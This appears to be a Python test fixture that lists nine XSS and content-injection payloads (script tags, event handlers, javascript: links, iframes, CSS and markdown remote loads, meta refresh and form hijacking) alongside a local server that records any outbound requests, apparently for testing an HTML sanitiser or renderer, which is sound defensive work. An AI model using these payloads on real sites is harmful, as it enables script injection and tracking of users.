"""Nine texts that would run a script or call home, and the host that would hear of it."""

from __future__ import annotations

import threading
from collections.abc import Mapping
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PWN = "window.top.pwned=1"

TRAP = "trap"
"""The id of what has to be clicked."""


def hostile_texts(elsewhere: str) -> Mapping[str, str]:
    """Texts by what they try.

    Args:
        elsewhere: address of the host that they call.
    """
    return {
        "image that fails": f'<img src="{elsewhere}/image" onerror="{PWN}">',
        "script": f'<script src="{elsewhere}/script"></script><script>{PWN}</script>',
        "svg": f'<svg onload="{PWN}"><animate onbegin="{PWN}" attributeName=x dur=1s></svg>',
        "javascript link": f'<a id={TRAP} href="javascript:{PWN}">go on</a>',
        "frames": (
            f'<iframe srcdoc="<script>{PWN}</script>"></iframe><iframe src="{elsewhere}/frame">'
            f'</iframe><object data="{elsewhere}/object"></object><embed src="{elsewhere}/embed">'
        ),
        "template break": (
            f"</textarea></template></script></p><script>{PWN}</script>"
            f'{{{{constructor.constructor("{PWN}")()}}}}${{{PWN}}}'
        ),
        "styles and media": (
            f'<style>@import url("{elsewhere}/import"); * {{ background: url("{elsewhere}/bg") }}'
            f'</style><link rel=stylesheet href="{elsewhere}/sheet">'
            f'<link rel=prefetch href="{elsewhere}/prefetch">'
            f'<p style="background:url({elsewhere}/inline)">p</p>'
            f'<video src="{elsewhere}/video" autoplay></video>'
        ),
        "markdown": f"![pixel]({elsewhere}/markdown) [go on](javascript:{PWN})",
        "page of its own": (
            f'</script><meta http-equiv="refresh" content="0;url={elsewhere}/refresh">'
            f'<base href="{elsewhere}/"><form action="{elsewhere}/form">'
            f'<input autofocus onfocus="{PWN}"></form>'
        ),
    }


class Elsewhere:
    """A host of another origin that remembers what it was asked for."""

    def __init__(self) -> None:
        asked: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *_: object) -> None:
                """Say nothing."""

        self.asked = asked
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_port}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        """Stop answering."""
        self._server.shutdown()
        self._server.server_close()
